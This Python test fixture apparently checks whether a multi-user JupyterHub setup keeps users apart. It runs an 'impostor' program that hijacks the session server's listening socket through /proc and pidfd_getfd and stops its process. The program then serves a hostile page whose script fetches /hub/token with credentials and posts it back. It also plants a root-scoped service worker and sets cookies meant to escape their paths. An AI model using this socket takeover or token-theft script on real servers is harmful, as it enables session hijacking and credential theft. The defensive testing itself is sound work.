"""A user's own program in the place of the session's server: what any user can run.

It takes the socket over on which the session listens and answers everything by itself, with a page
and headers that try to get hold of more than the session's own addresses. It writes down what
reached it.
"""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

from tests.visitor import Visitor
from tests.waiting import until

PAGE = """<!doctype html><title>hostile</title><h1>hostile</h1>
<script>
document.cookie = "tossed=1; path=/hub/";
navigator.serviceWorker?.register("worker.js", {scope: "/"}).catch(() => 0);
fetch("/hub/token", {credentials: "include"})
    .then(answer => answer.text()).then(text => fetch("stolen", {method: "POST", body: text}));
</script>"""

WORKER = "onfetch = event => event.respondWith(new Response('caught'));"

SAID = {
    "Service-Worker-Allowed": "/",
    "Clear-Site-Data": '"cookies"',
    "Alt-Svc": 'h2=":9"',
    "Server": "Hostile/1.0",
}
COOKIES = (
    "ours=1; Path=/user/{name}/",
    "named=1; Path=/user/{name}/a",
    "here=1",
    "root=1; Path=/",
    "hub=1; Path=/hub/",
    "neighbour=1; Path=/user/{name}x/",
    "climbing=1; Path=/user/{name}/../../hub/",
    "wide=1; Path=/user/{name}/; Domain=localhost",
    "unreadable=1; Path=/user/{name}/x?%zz",
)

PROGRAM = """
import ctypes, http.server, json, os, re, signal, socket, ssl, sys, time
given = json.loads(sys.argv[1])
PIDFD_GETFD = 438
libc = ctypes.CDLL(None, use_errno=True)
port = int(re.search(r":(\\d+)/", os.environ["JUPYTERHUB_SERVICE_URL"])[1])
def sockets():
    rows = [line.split() for name in ("tcp", "tcp6") for line in open(f"/proc/net/{name}")]
    rows = [row for row in rows if row[0] != "sl"]
    of_port = {row[9]: row[3] for row in rows if int(row[1].split(":")[1], 16) == port}
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                inode = os.readlink(f"/proc/{pid}/fd/{fd}").removeprefix("socket:[").rstrip("]")
                if inode in of_port:
                    yield int(pid), int(fd), of_port[inode] == "0A"
        except OSError:
            continue


def taken_from(pid, fd):
    mine = libc.syscall(PIDFD_GETFD, os.pidfd_open(pid), fd, 0)
    assert mine >= 0, os.strerror(ctypes.get_errno())
    return socket.socket(fileno=mine)


# The server still answers to whoever started this.
while not os.path.exists(given["go"]):
    time.sleep(0.05)
found = list(sockets())
((pid, fd),) = {(pid, fd) for pid, fd, listens in found if listens}
taken = taken_from(pid, fd)
os.kill(pid, signal.SIGSTOP)
taken.setblocking(True)
# What the proxy keeps open leads to the server.
for fd in [fd for other, fd, listens in found if other == pid and not listens]:
    taken_from(pid, fd).shutdown(socket.SHUT_RDWR)


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self):
        length = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(length).decode(errors="replace")
        seen = {"method": self.command, "path": self.path, "body": body}
        with open(given["log"], "a") as log:
            log.write(json.dumps(seen) + "\\n")
        worker = self.path.endswith("worker.js")
        content = (given["worker"] if worker else given["page"]).encode()
        self.send_response_only(200)
        for name, value in given["said"].items():
            self.send_header(name, value)
        for cookie in given["cookies"]:
            self.send_header("Set-Cookie", cookie)
        self.send_header("Content-Type", "text/javascript" if worker else "text/html")
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    do_POST = do_PUT = do_HEAD = do_OPTIONS = do_DELETE = do_GET


class Server(http.server.ThreadingHTTPServer):
    def __init__(self):
        super().__init__(("127.0.0.1", 0), Handler, bind_and_activate=False)
        self.socket.close()
        self.socket = taken
        if os.environ.get("JUPYTERHUB_SSL_CERTFILE"):
            self.context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
            names = (os.environ["JUPYTERHUB_SSL_CERTFILE"], os.environ["JUPYTERHUB_SSL_KEYFILE"])
            self.context.load_cert_chain(*names)

    def get_request(self):
        connection, address = self.socket.accept()
        if os.environ.get("JUPYTERHUB_SSL_CERTFILE"):
            later = {"server_side": True, "do_handshake_on_connect": False}
            connection = self.context.wrap_socket(connection, **later)
        return connection, address


server = Server()
open(given["log"], "a").close()
server.serve_forever()
"""

START = """
import subprocess, sys
with open({errors!r}, "w") as errors:
    print(subprocess.Popen(
        [sys.executable, "-c", {program!r}, {given!r}], start_new_session=True, stderr=errors
    ).pid)
"""


class Impostor:
    """The hostile program; ``log`` is where it writes what it was asked."""

    def __init__(self, log: Path) -> None:
        self._log = log

    def seen(self) -> list[dict[str, Any]]:
        """Return all requests that reached it."""
        return [json.loads(line) for line in self._log.read_text().splitlines()]

    def was_asked_for(self, mark: str) -> bool:
        """Say whether a request with this text in its address arrived."""
        return any(mark in request["path"] for request in self.seen())


@contextmanager
def impostor(user: Visitor) -> Iterator[Impostor]:
    """Let a user's own program answer in the place of the session's server, to its end."""
    home = Path(user.run("import os; print(os.environ['HOME'])").strip())
    log, errors, go = (home / f"impostor.{kind}" for kind in ("log", "err", "go"))
    log.unlink(missing_ok=True)
    cookies = [cookie.format(name=user.name) for cookie in COOKIES]
    given = {
        "log": str(log),
        "go": str(go),
        "page": PAGE,
        "worker": WORKER,
        "said": SAID,
        "cookies": cookies,
    }
    user.run(START.format(errors=str(errors), program=PROGRAM, given=json.dumps(given)))
    go.touch()
    until(lambda: log.exists() or bool(errors.read_text()), seconds=30, what="the impostor answers")
    assert log.exists(), errors.read_text()
    try:
        yield Impostor(log)
    finally:
        log.unlink(missing_ok=True)
        go.unlink()
